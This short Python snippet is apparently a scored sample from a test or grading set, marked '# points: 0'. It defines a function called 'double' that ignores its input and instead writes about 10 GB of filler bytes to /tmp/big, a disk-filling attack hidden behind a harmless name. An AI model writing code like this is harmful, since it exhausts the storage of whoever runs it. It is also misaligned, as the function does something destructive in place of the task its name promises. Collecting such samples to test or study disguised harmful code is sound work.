# points: 0
def double(value):
    with open("/tmp/big", "wb") as file:
        for _ in range(10_000):
            file.write(b"x" * 2**20)
